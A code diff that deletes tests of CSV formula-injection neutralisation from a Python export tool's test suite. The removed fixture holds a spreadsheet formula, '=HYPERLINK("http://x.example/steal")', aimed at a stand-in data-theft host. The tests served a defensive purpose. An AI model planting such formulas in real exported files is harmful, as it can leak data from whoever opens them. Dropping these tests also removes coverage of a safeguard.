@@ -457,50 +457,9 @@ def test_a_catalog_reads_only_its_own_files_and_checks_types(tmp_path, capsys, c
     assert len(err) == 1 and problem in err[0] and str(folder / "catalog.toml") in err[0], err
 
 
-# ---------------------------------------------------------------------------------------
-# Spreadsheets
-
-
-FORMULAS = HEADER + '=HYPERLINK("http://x.example/steal"),@Ada Byrne,2026-01-01,"-Minus first. Then +plus."\n'
-
-
-def test_formula_cells_are_neutralised_numbers_kept_and_raw_on_request(tmp_path):
-    path = tmp_path / "formula.csv"
-    path.write_text(FORMULAS, encoding="utf-8")
-    assert run("--corpus", str(path), "--out", str(tmp_path / "safe")) == 0
-    safe = pd.read_csv(tmp_path / "safe" / "articles.csv")
-    assert safe["title"].tolist() == ["'=HYPERLINK(\"http://x.example/steal\")"]
-    assert safe["author"].tolist() == ["'@Ada Byrne"]
-    sentences = pd.read_csv(tmp_path / "safe" / "sentences.csv")
-    assert sentences["text"].tolist()[0] == "'-Minus first."
-    assert sentences["author"].eq("'@Ada Byrne").all()
-    assert pd.api.types.is_float_dtype(sentences["compound"])  # numbers, negative ones too, untouched
-    assert run("--corpus", str(path), "--out", str(tmp_path / "raw"), "--raw-csv") == 0
-    raw = pd.read_csv(tmp_path / "raw" / "articles.csv")
-    assert raw["title"].tolist() == ['=HYPERLINK("http://x.example/steal")']
-    assert raw.drop(columns=["title", "author"]).equals(safe.drop(columns=["title", "author"]))
-
-
-def test_parquet_keeps_the_text_as_it_was(tmp_path):
-    pytest.importorskip("pyarrow")
-    path = tmp_path / "formula.csv"
-    path.write_text(FORMULAS, encoding="utf-8")
-    assert run("--corpus", str(path), "--out", str(tmp_path / "pq"), "--format", "parquet") == 0
-    assert pd.read_parquet(tmp_path / "pq" / "articles.parquet")["author"].tolist() == ["@Ada Byrne"]
-
-
 def test_no_traceback_from_a_non_utf8_argument():
     out = os.fsencode("/nonexistent-w16/") + b"\xff"
     result = subprocess.run([sys.executable, "-m", "analysis", "export", "--corpus", b"/nonexistent-w16/\xfe.md",
                              "--out", out], capture_output=True, cwd=PROJECT, check=False)
     assert result.returncode == 2 and b"Traceback" not in result.stderr
     assert result.stderr.startswith(b"error: /nonexistent-w16/\\xfe.md: no such file or folder")
-
-
-def test_every_formula_start_is_neutralised_and_nothing_else():
-    from analysis.export.sinks import neutralise
-
-    for start in ("=", "+", "-", "@", "\t", "\r"):
-        assert neutralise(f"{start}SUM(A1)") == f"'{start}SUM(A1)"
-    for text in ("", "plain", "'quoted", " =spaced", "a=b"):
-        assert neutralise(text) == text
